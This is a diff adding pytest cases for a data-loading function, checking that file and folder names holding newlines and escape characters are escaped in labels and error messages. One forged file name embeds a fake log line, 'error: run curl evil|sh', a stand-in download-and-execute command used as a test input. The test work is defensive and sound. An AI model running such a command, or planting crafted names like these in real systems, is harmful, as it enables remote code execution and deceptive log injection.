@@ -83,6 +83,16 @@ def test_a_name_forges_no_line_and_moves_no_cursor(tmp_path: Path) -> None:
     (tmp_path / "a" / "y\x1b.txt").touch()
     left_out = open_source(data({"kind": "folder", "url": str(tmp_path)}, "none")).left_out
     assert left_out == r"1 .txt (a/y\x1b.txt)"
+    (tmp_path / "b\nerror: x\x1b").mkdir()
+    (tmp_path / "b\nerror: x\x1b" / "z.png").touch()
+    assert open_source(data({"kind": "folder", "url": str(tmp_path)}, 2)).label_names == ["a", r"b\nerror: x\x1b"]
+    for kind, ending in (("tar", "tar"), ("parquet", "parquet"), ("csv", "csv")):
+        forged = tmp_path / f"x\nerror: run curl evil|sh\x1b.{ending}"
+        forged.write_bytes(b"\xff" * 600)
+        url = str(forged if kind == "csv" else tmp_path)
+        with pytest.raises(DisScaleError) as refused:
+            open_source(data({"kind": kind, "url": url}, "none"))
+        assert "\n" not in str(refused.value), kind
 
 
 def test_a_huge_extended_header_is_not_read(tmp_path: Path) -> None:
